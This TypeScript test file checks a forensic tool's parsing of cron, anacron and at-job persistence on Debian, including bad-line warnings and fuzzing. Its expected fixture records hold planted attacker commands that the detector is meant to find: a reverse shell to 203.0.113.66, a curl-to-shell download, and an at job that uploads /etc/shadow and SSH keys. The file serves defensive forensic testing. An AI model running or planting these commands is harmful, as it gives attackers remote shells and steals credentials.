// cronjobs on Debian's own cron files and hand-written crontabs (fixtures/persistence/cron, make-cron.sh) and on
// at jobs spooled by at itself (fixtures/persistence/at, atq's listing the oracle), as a directory, a tar and a
// tar.gz; bad lines; the parsers fuzzed.
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { parseAnacronLine } from "../../../../../plugins/os/unix/cronjobs/anacron.js";
import { parseAtJobName, parseAtScript } from "../../../../../plugins/os/unix/cronjobs/atjob.js";
import { parseCrontabLine } from "../../../../../plugins/os/unix/cronjobs/crontab.js";
import { dir } from "../../../../../src/fs/memory.js";
import { prng } from "../../../../helpers/prng.js";
import { tmpdir, writeTree } from "../../../../helpers/tmp.js";
import { PERSISTENCE, run, threeTargets } from "../triage.js";
import { targetFromTree } from "../../../../../plugins/index.js";

const CRON = path.join(PERSISTENCE, "cron/root");
const AT = path.join(PERSISTENCE, "at/root");
const job = (r: { records: Record<string, unknown>[] }) => r.records.filter((x) => x.kind !== undefined);
const row = (x: Record<string, unknown>) => [x.kind, x.schedule, x.user, x.command, x.lineno];

describe.each(await threeTargets(CRON, "cron"))("cronjobs on Debian's cron files as $kind", ({ path: target }) => {
  it("every job with its schedule, user and command; environment lines as their own records", async () => {
    const r = await run(target, "cronjobs");
    expect(job(r).filter((x) => x.kind !== "cron.daily" && x.kind !== "cron.weekly").map(row)).toEqual([
      ["crontab", "17 * * * *", "root", "cd / && run-parts --report /etc/cron.hourly", 19],
      ["crontab", "25 6 * * *", "root", "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }", 20],
      ["crontab", "47 6 * * 7", "root", "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }", 21],
      ["crontab", "52 6 1 * *", "root", "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.monthly; }", 22],
      ["cron.d", "30 3 * * 0", "root", "test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron", 1],
      ["cron.d", "10 3 * * *", "root", "test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r", 2],
      ["spool", "0 9-17/2 * * mon-fri", "alice", "/home/alice/bin/report.sh % weekly", 6],
      ["spool", "30 2 1 jan,jul *", "alice", "tar czf /home/alice/archive.tgz /home/alice/notes", 7],
      ["spool", "@weekly", "alice", "find /home/alice/tmp -mtime +7 -delete", 8],
      ["spool", "@reboot", "root", "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'", 5],
      ["spool", "*/10 * * * *", "root", "/usr/bin/curl -fsS http://203.0.113.66/p | /bin/sh >/dev/null 2>&1", 6],
      ["spool", "15 3 * * *", "bob", "/usr/local/bin/rotate-keys", 2],
      ["anacrontab", "1", "root", "run-parts --report /etc/cron.daily", 10],
      ["anacrontab", "7", "root", "run-parts --report /etc/cron.weekly", 11],
      ["anacrontab", "@monthly", "root", "run-parts --report /etc/cron.monthly", 12],
    ]);
    const reboot = r.records.find((x) => x.schedule === "@reboot")!;
    expect(reboot).toMatchObject({ minute: null, hour: null, filepath: "/var/spool/cron/crontabs/root" });
    expect(r.records.find((x) => x.schedule === "0 9-17/2 * * mon-fri")).toMatchObject({ minute: "0", hour: "9-17/2", day: "*", month: "*", weekday: "mon-fri" });
    expect(r.records.find((x) => x.job_id === "cron.weekly")).toMatchObject({ delay: 10 });
    expect(r.records.filter((x) => x.key !== undefined).map((x) => [x.key, x.value, x.filepath])).toEqual([
      ["SHELL", "/bin/sh", "/etc/crontab"],
      ["PATH", "/home/alice/bin:/usr/bin:/bin", "/var/spool/cron/crontabs/alice"],
      ["MAILTO", "", "/var/spool/cron/crontabs/root"],
      ["SHELL", "/bin/sh", "/etc/anacrontab"],
      ["HOME", "/root", "/etc/anacrontab"],
      ["LOGNAME", "root", "/etc/anacrontab"],
    ]);
  });

  it("cron.daily and cron.weekly scripts as entries with the script's mtime; placeholders left out", async () => {
    const r = await run(target, "cronjobs");
    const scripts = job(r).filter((x) => x.kind === "cron.daily" || x.kind === "cron.weekly");
    expect(scripts.map((x) => [x.kind, x.command, x.user])).toEqual([
      ["cron.daily", "/etc/cron.daily/apt-compat", "root"],
      ["cron.daily", "/etc/cron.daily/dpkg", "root"],
      ["cron.daily", "/etc/cron.daily/logrotate", "root"],
      ["cron.daily", "/etc/cron.daily/man-db", "root"],
      ["cron.weekly", "/etc/cron.weekly/man-db", "root"],
    ]);
    for (const s of scripts) expect((s.ts as { seconds: number }).seconds).toBe(Math.floor(fs.statSync(path.join(CRON, String(s.command))).mtimeMs / 1000));
  });

  it("a bad line is a warning with file, line and offset; the lines around it are read", async () => {
    const r = await run(target, "cronjobs");
    const f = "/var/spool/cron/crontabs/alice";
    const text = fs.readFileSync(path.join(CRON, f), "utf8");
    const at = (l: string) => text.indexOf("\n" + l) + 1;
    expect(r.warnings).toEqual([
      { message: 'line 9: minute 61 is outside 0-59: "61 * * * * echo never"; skipped', file: f, offset: at("61 *") },
      { message: 'line 10: "echo" is no month: "* * * echo too few"; skipped', file: f, offset: at("* * * echo") },
      { message: 'line 11: unknown schedule "@sometimes": "@sometimes echo what"; skipped', file: f, offset: at("@sometimes") },
    ]);
    expect(r.errors).toEqual([]);
  });
});

/** atq: "2\tFri Jan 15 03:00:00 2027 a root" (TZ=UTC). */
const atq = fs
  .readFileSync(path.join(PERSISTENCE, "at/atq.txt"), "utf8")
  .split("\n")
  .filter(Boolean)
  .map((l) => {
    const [id, rest] = l.split("\t");
    const m = /^(.*) (\S) (\S+)$/.exec(rest!)!;
    return { job_id: id, ts: Date.parse(m[1]! + " UTC") / 1000, schedule: m[2], user: m[3] };
  });

describe.each(await threeTargets(AT, "at"))("cronjobs on at's own spool as $kind", ({ path: target }) => {
  it("each job's number, run time, queue and user equal atq's; the command is what was given to at", async () => {
    const r = await run(target, "cronjobs");
    expect(r.warnings).toEqual([]);
    expect(r.records.map((x) => ({ job_id: x.job_id, ts: (x.ts as { seconds: number }).seconds, schedule: x.schedule, user: x.user }))).toEqual(atq);
    expect(r.records.map((x) => x.command)).toEqual([
      "tar czf /tmp/.cache.tgz /etc/shadow /root/.ssh && curl -T /tmp/.cache.tgz http://203.0.113.66/up",
      "apt-get -y upgrade\nsystemctl restart nginx",
    ]);
  });
});

describe("cronjobs: odd input", () => {
  it("is not applicable without any cron or at file, and says why", async () => {
    const r = await run(targetFromTree({ "/etc/os-release": "ID=debian\n", "/var": dir() }), "cronjobs");
    expect(r.outcome).toMatchObject({ status: "absent", reason: "no crontab, cron.d, cron spool, anacrontab, cron.daily etc. or at spool" });
  });

  it("an at spool file with another name is told; RHEL's at 3.1 here-document is unwrapped", async () => {
    expect(parseAtJobName("a0000201c9c254")).toEqual({ queue: "a", job: 2, runAt: 0x01c9c254 * 60 });
    expect(parseAtScript(["#!/bin/sh", "# atrun uid=1000 gid=1000", "cd /home/x || {", "\t echo 'Execution directory inaccessible' >&2", "\t exit 1", "}", "${SHELL:-/bin/sh} << 'marcinDELIMITER1a2b3c4d'", "id", "marcinDELIMITER1a2b3c4d", ""])).toEqual({ uid: 1000, command: "id", lineno: 8 });
    const r = await run(targetFromTree({ "/etc/os-release": "ID=debian\n", "/var/spool/cron/atjobs/notajob": "x\n", "/var/spool/cron/atjobs/.SEQ": "3\n" }), "cronjobs");
    expect(r.warnings).toEqual([{ message: "not an at job name (queue letter, 5 hex digits of job number, 8 of minutes): skipped", file: "/var/spool/cron/atjobs/notajob" }]);
  });

  it("a file of garbage: 20 bad lines told one by one, the rest counted; the good line after them read", async () => {
    const junk = "\x7fELF garbage line\n".repeat(1000) + "* * * * * root still read\n";
    const r = await run(targetFromTree({ "/etc/os-release": "ID=debian\n", "/var": dir(), "/etc/cron.d/junk": junk }), "cronjobs");
    expect(r.records.map((x) => x.command)).toEqual(["still read"]);
    expect(r.warnings).toHaveLength(21);
    expect(r.warnings[20]).toEqual({ message: "980 more bad lines not told one by one", file: "/etc/cron.d/junk" });
  });

  it("a 1 GiB sparse crontab: read to its 16 MiB budget, the hole a line cut at 64 KiB, every warning short", async () => {
    const root = tmpdir();
    writeTree(root, { "etc/os-release": "ID=debian\n", "var/log/.keep": "", "etc/crontab": "* * * * * root good\n" });
    fs.truncateSync(path.join(root, "etc/crontab"), 2 ** 30);
    const r = await run(root, "cronjobs");
    expect(r.records.map((x) => x.command)).toEqual(["good"]);
    expect(r.warnings.map((w) => [w.message, w.offset])).toEqual([
      ["line 2 is 16777196 bytes; only its first 65536 are read", 20],
      [expect.stringMatching(/^line 2: "(\\u0000){80}…" is no time field: "(\\u0000){80}…"; skipped$/), 20],
      ["1073741824-byte file: only the first 16777216 bytes were read", 16777216],
    ]);
    for (const w of r.warnings) expect(w.message.length).toBeLessThan(2048);
  });

  it("a cron.d link out of the target reads the target's own file", async () => {
    const r = await run(targetFromTree({ "/etc/os-release": "ID=debian\n", "/var": dir(), "/etc/cron.d/x": { type: "symlink", target: "../../../../../etc/evil" }, "/etc/evil": "* * * * * root inside\n" }), "cronjobs");
    expect(r.records.map((x) => x.command)).toEqual(["inside"]);
  });

  it("fuzz: cut and damaged crontab, anacrontab and at lines never throw", () => {
    const rand = prng(2024);
    const sources = ["etc/crontab", "var/spool/cron/crontabs/alice", "var/spool/cron/crontabs/root", "etc/anacrontab"].map((p) => fs.readFileSync(path.join(CRON, p)));
    const at = fs.readdirSync(path.join(AT, "var/spool/cron/atjobs")).map((n) => fs.readFileSync(path.join(AT, "var/spool/cron/atjobs", n)));
    for (const source of [...sources, ...at]) {
      for (let i = 0; i < 200; i++) {
        const b = Buffer.from(source.subarray(0, Math.floor(rand() * (source.length + 1))));
        for (let k = Math.floor(rand() * 5); k > 0; k--) b[Math.floor(rand() * b.length)] = Math.floor(rand() * 256);
        const lines = b.toString("latin1").split("\n");
        for (const l of lines) {
          const c = parseCrontabLine(l, rand() < 0.5);
          if (c.type === "job") expect(c.command.length).toBeGreaterThan(0);
          expect(["none", "env", "job", "bad"]).toContain(parseAnacronLine(l).type);
        }
        const s = parseAtScript(lines);
        if (s.lineno !== null) expect(s.lineno).toBeLessThanOrEqual(lines.length);
      }
    }
  });
});
